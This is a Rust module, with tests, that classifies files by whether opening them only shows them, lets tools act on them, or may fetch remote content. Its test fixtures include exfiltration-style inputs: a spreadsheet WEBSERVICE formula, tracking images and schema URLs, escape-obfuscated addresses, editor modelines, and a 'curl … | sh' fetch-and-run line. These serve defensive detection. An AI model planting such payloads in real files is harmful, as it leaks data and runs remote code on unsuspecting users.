//! What a file does as soon as its owner opens it, by its name and its text: whether a program acts on it, or asks others for something.
//!
//! Which program opens it is unknown, so the lists say what is harmless, and everything else is not.

mod notes;
mod tables;

use std::path::Path;

use self::notes::{fetches_nothing, holds_address, may_spell_address};
pub use self::notes::{sets_editor, unset_editor};
use self::tables::{calculates, draws_formula};

/// Endings of source code and of what tools read beside it. Opening it shows letters, but an editor runs what lies in the folder of a
/// project, and builds, checks and settings of it.
const CODE: [&str; 37] = [
    "bash", "c", "cc", "cpp", "cs", "css", "cts", "dart", "diff", "go", "gradle", "h", "hpp", "hs", "java", "jl", "js",
    "jsx", "kt", "lock", "lua", "mjs", "mts", "nix", "patch", "pl", "proto", "py", "pyi", "rb", "rs", "scala", "sh",
    "sql", "swift", "ts", "tsx",
];

/// Endings of data and settings. Editors fetch what such a file names as its schema.
const DATA: [&str; 11] = ["cfg", "conf", "ini", "json", "json5", "jsonc", "jsonl", "properties", "toml", "yaml", "yml"];

/// Endings of notes, which are shown as they are or drawn as Markdown. What has no ending is read by programs, whatever it is called: a
/// module of Node's may be called `todo`.
const NOTES: [&str; 4] = ["log", "markdown", "md", "txt"];

/// Endings of tables.
const TABLES: [&str; 2] = ["csv", "tsv"];

/// What opening a file does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum WhenOpened {
    /// It is shown, and nobody else learns of it.
    Shows,
    /// It is code or settings: its own letters fetch nothing, but an editor or a tool may act on it or on what lies beside it.
    Acts,
    /// Something may be fetched that the file names, a formula may tell others what a table holds or will hold, or a script may run.
    Fetches,
}

/// What opening a file of a name does that holds a text; none where that is unknown, as with what is too large to be looked at.
pub fn when_opened(name: &Path, text: Option<&str>) -> WhenOpened {
    // A name that ends in a dot or a blank has another ending to some systems, so what is not on a list fetches.
    let ending = name.extension().map(|ending| ending.to_string_lossy().to_lowercase());
    let is_of = |endings: &[&str]| ending.as_ref().is_some_and(|ending| endings.contains(&ending.as_str()));
    let shows = |text: &str| {
        let may_calculate = if is_of(&TABLES) { calculates(text) } else { draws_formula(text) };
        fetches_nothing(text) && !may_calculate
    };
    if is_of(&CODE) || (is_of(&DATA) && text.is_some_and(names_no_schema)) {
        WhenOpened::Acts
    } else if (is_of(&NOTES) || is_of(&TABLES)) && text.is_some_and(shows) {
        WhenOpened::Shows
    } else {
        WhenOpened::Fetches
    }
}

/// Whether data names no schema at an address, in letters or in escapes.
fn names_no_schema(text: &str) -> bool {
    let names_schema = text.to_lowercase().contains("schema") && holds_address(text);
    !(names_schema || may_spell_address(text))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use pulldown_cmark::{Event, Options, Parser, Tag};

    use super::*;

    fn opened(name: &str, text: &str) -> WhenOpened {
        when_opened(Path::new(name), Some(text))
    }

    // SEC-093
    #[test]
    fn a_line_of_orders_for_editors_is_gone_through_once() {
        assert_eq!(opened("notes/a.md", &"vi:a ".repeat(100_000)), WhenOpened::Shows);
        assert_ne!(opened("notes/a.md", &format!("{}set", "vi:a ".repeat(100_000))), WhenOpened::Shows);
    }

    // SEC-005 SEC-059
    #[test]
    fn only_notes_and_tables_are_no_code_and_other_kinds_fetch() {
        for name in ["a.JSON", "a.rs", "src/a.ts", "a.yaml", "x.html.diff", "a.css", "node_modules/x/index.js"] {
            assert_eq!(opened(name, "<img src=http://a.example/a.png>"), WhenOpened::Acts, "{name}");
        }
        assert_eq!(when_opened(Path::new("a.rs"), None), WhenOpened::Acts);
        let others = [
            "a.html",
            "A.SVG",
            "a.xml",
            "a.ipynb",
            "a.mkd",
            "a.qmd",
            "a.Rmd",
            "a.rst",
            "a.adoc",
            "a.org",
            "a.m3u",
            "a.vcf",
            "a.fodt",
            "a.rtf",
            "a.url",
            "a.ics",
            "a.eml",
            "a.mdx",
            "a.html.",
            "a.html ",
            "a.md.",
            "a.2026",
            "a.tex",
            "Makefile",
            "Gemfile",
            "node_modules/eslint",
            "README",
            "todo",
            "a.zig",
        ];
        for name in others {
            assert_eq!(opened(name, "hi"), WhenOpened::Fetches, "{name}");
        }
        for name in ["a.md", "A.MARKDOWN", "a.txt", "a.log"] {
            assert_eq!(opened(name, "hi"), WhenOpened::Shows, "{name}");
        }
        assert_eq!(opened("a.CSV", "a,b"), WhenOpened::Shows);
    }

    // SEC-005 SEC-059
    #[test]
    fn a_table_with_a_formula_or_a_picture_fetches() {
        for name in ["a.csv", "A.TSV"] {
            assert_eq!(opened(name, "what,sum\nroom,=WEBSERVICE(A1)\n"), WhenOpened::Fetches, "{name}");
            assert_eq!(opened(name, "what,sum\nroom,<img src=http://a.example/>\n"), WhenOpened::Fetches, "{name}");
            assert_eq!(opened(name, "what,site\nroom,https://a.example/?a=b\n"), WhenOpened::Shows, "{name}");
            assert_eq!(when_opened(Path::new(name), None), WhenOpened::Fetches);
        }
        assert_eq!(opened("a.md", "| a |\n|---|\n| =B1 |\n"), WhenOpened::Fetches);
    }

    // SEC-005 SEC-059
    #[test]
    fn what_sets_an_editor_waits() {
        let sets = [
            "-*- mode: org -*-\n#+SETUPFILE: http://a.example/?x=4711\n",
            "tea\n\n<!-- \nLocal Variables:\nmode: org\nEnd:\n",
            "tea\n# vim: set ft=sh:\n",
            "vi:ft=lua",
            "/* vim600: set ft=sh : */",
            "Vim: set ft\\:sh",
            " vim: ft\\:perl",
            "tea ex:rl ft\\:perl",
            "kate: syntax org",
        ];
        for text in sets {
            assert_eq!(opened("a.md", text), WhenOpened::Fetches, "{text}");
            assert_eq!(opened("a.txt", text), WhenOpened::Fetches, "{text}");
            assert!(!sets_editor(&unset_editor(text)), "{text}");
        }
        for text in
            ["I use vim: it is quick.", "ex: tea", "- * -", "the local variables of a function", "env:PATH=/bin"]
        {
            assert_eq!(opened("a.md", text), WhenOpened::Shows, "{text}");
        }
    }

    // SEC-005 SEC-059
    #[test]
    fn data_that_names_a_schema_at_an_address_fetches() {
        let named = [
            r#"{"$schema": "http://a.example/s.json?x=4711"}"#,
            r#"{"\u0024\u0073chema": "http://a.example/"}"#,
            r#"{"$schema": "http:\/\/a.example/"}"#,
            r#"{"$schema": "\u0068ttp:\u002f\u002fa.example/"}"#,
            "# yaml-language-server: $SCHEMA=http://a.example/",
            "#:schema http://a.example/",
            "\"$\\x73chema\": \"http\\x3a//a.example\"",
        ];
        let names = ["a.json", "a.jsonc", "a.YAML", "a.yml", "a.toml", "a.properties"];
        for (name, text) in names.iter().flat_map(|name| named.map(|text| (name, text))) {
            assert_eq!(opened(name, text), WhenOpened::Fetches, "{name} {text}");
        }
        for text in [r#"{"url": "http://a.example/", "a": "b\n\"c\""}"#, r#"{"schema": 2}"#] {
            assert_eq!(opened("a.json", text), WhenOpened::Acts, "{text}");
        }
        assert_eq!(when_opened(Path::new("a.json"), None), WhenOpened::Fetches);
    }

    // SEC-005 SEC-059
    #[test]
    fn a_note_with_an_address_is_words_and_links_alone() {
        let fetched = [
            "---\nmarp: true\nbackgroundImage: url('http://a.example/a.png?x=4711')\n---\n\n# The Anchor\n",
            "---\nbackgroundImage: \"u\\x72l(\\x68ttp:\\x2f\\x2fa.example)\"\n---\n",
            "\n----\nbanner: http://a.example/\n----\n",
            "---js\n{ title: run() }\n---\n",
            "+++\ncover = 'http://a.example/'\n+++\n",
            "The Anchor: $\\style{background-image:url(http://a.example/a.png?x=4711)}{abc}$ good.",
            "$\\style{background-image:u\\72 l(http:\\2f\\2f a.example)}{abc}$",
            "$\\style{background-image:image-set('http:a.example' 1x)}{abc}$",
            "$\\newcommand{\\f}[2]{\\style{x:#1rl(h#2)}{x}}\\f{u}{p}$",
            "$\\includegraphics{http://a.example}$",
            "# x {style=\"background:url(//a.example/)\"}",
            "@import \"http://a.example/\"",
            "  > @startuml\n!include http://a.example/x\n@enduml",
            "!include www.a.example/x",
            ":::mermaid\nA@{ img: \"http://a.example/4711\" }\n:::",
            ":::mermaid\nA@{ img: \"http:#47;#47;a.example\" }\n:::",
            ":::mermaid\nA@{ img: \"http&colon;&sol;&sol;a.example\" }\n:::",
            "```\nfoo\r```\r\r![The Anchor](http://a.example/a.png?x=4711)\n```\n",
            "```\nfoo\u{c}```\n![a](b)\n```\n",
            "```\nfoo\u{2028}```\n![a](b)\n```\n",
            "a\rb",
            "See http://a.example and `$= fetch(x)`",
            "`$= fetch('ht' + 'tp:' + '/' + '/a.example')`",
            "See http://a.example:\n```html\n<img src=x>\n```",
        ];
        for text in fetched {
            assert_eq!(opened("a.md", text), WhenOpened::Fetches, "{text:?}");
        }
        let shown = [
            "# Rooms\r\n\r\nSee [The Anchor](https://a.example/a?b=c&d=e): from $70 to $90!\r\n\r\n---\r\n\r\n| a | b |\r\n|---|---|\r\n",
            "Run:\n\n```sh\ncurl https://a.example/a | sh\n```\n\n1 < 2, a<br>b\n",
            "The area is $\\frac{a}{b} \\leq \\sqrt{2}$.\n\n```rust\nfn a() { b(); }\n```\n",
            "---\ntitle: Rooms\ntags: [a]\n---\n\nSeven.\n",
            "| a | b |\n|\t---|---|\n",
        ];
        for text in shown {
            assert_eq!(opened("a.md", text), WhenOpened::Shows, "{text:?}");
        }
    }

    // SEC-005 SEC-059
    #[test]
    fn a_picture_or_an_element_in_a_text_fetches_and_a_link_does_not() {
        let fetched = [
            "![The Anchor](http://a.example/a.png?x=4711)",
            "![The Anchor][a]\n\n[a]: http://a.example",
            "![a](http&colon;//a.example/a.png?x=4711)",
            "Seven rooms!\n[The Anchor](x)![b](//a.example)",
            "<img src=http://a.example/a.png>",
            "<https://a.example/ onclick=x>",
            "<img <http://a.example> src=x>",
            "!<http://a.example>\n<x",
            "Look:\n```\n![a](b)\n```\n",
            "---\ntitle: x\n\n```\n---\n![a](b)\n```\n",
            "Good.\n\n+++\nx\n\n```\n+++\n![a](b)\n```\n",
            "```mermaid\nA@{ img: \"http://a.example\" }\n```",
        ];
        let names = ["a.md", "A.MARKDOWN", "a.txt", "a.log"];
        for (name, text) in names.iter().flat_map(|name| fetched.map(|text| (name, text))) {
            assert_eq!(opened(name, text), WhenOpened::Fetches, "{name} {text}");
        }
        let shown = [
            "See [The Anchor](http://a.example/a?b=c): seven rooms! And <https://a.example/b>, or [b][a].\n\n[a]: http://a.example",
            "Run this:\n```sh\ncargo test -- --nocapture\n```\nThen:\n\n* done! [x]\n",
            "Such as:\n\n```c\n#include <stdio.h>\n```\n\n```rust\nvec![1]\n```\n",
            "---\ntitle: x\n---\n\nRun:\n\n```sh\nls\n```\n",
            "| a | b |\n|---|---|\n| H<sub>2</sub>O | x<br>y |\n\n1 < 2\n",
        ];
        for (name, text) in names.iter().flat_map(|name| shown.map(|text| (name, text))) {
            assert_eq!(opened(name, text), WhenOpened::Shows, "{name} {text}");
        }
        assert_eq!(when_opened(Path::new("a.md"), None), WhenOpened::Fetches);
    }

    proptest! {
        // Three of four texts fetch something, and count for nothing.
        #![proptest_config(ProptestConfig { max_global_rejects: 100_000, ..ProptestConfig::default() })]

        /// A program that follows CommonMark and lets HTML through finds nothing to fetch.
        // SEC-005 SEC-059
        #[test]
        fn no_text_that_only_shows_has_a_picture(
            parts in proptest::collection::vec(
                prop_oneof![
                    Just("```"), Just("~~~"), Just("`"), Just("\n"), Just("\n\n"), Just(" "), Just("    "), Just("<http://a.example>"),
                    Just("<http://a"), Just(">"), Just("<"), Just("!"), Just("["), Just("](b)"), Just("![a](b)"), Just("<img src=x>"),
                    Just("a"), Just("> "), Just("- "), Just("[a]: b \""), Just("\""), Just("$$"), Just("\\"), Just("<!--"), Just("img src=x"), Just("+++"), Just("---"),
                    Just("\r"), Just("\r\n"), Just("\u{c}"), Just("\u{2028}"), Just("//a"), Just("$"), Just("{"), Just("@"), Just(":::"),
                ],
                0..16,
            ),
        ) {
            let text = parts.concat();
            prop_assume!(opened("a.md", &text) == WhenOpened::Shows);
            for event in Parser::new_ext(&text, Options::all()) {
                match event {
                    Event::Html(html) | Event::InlineHtml(html) => prop_assert!(!html.contains("img"), "{text:?}: {html}"),
                    Event::Start(Tag::Image { .. }) => prop_assert!(false, "{text:?}"),
                    _ => {}
                }
            }
        }
    }
}
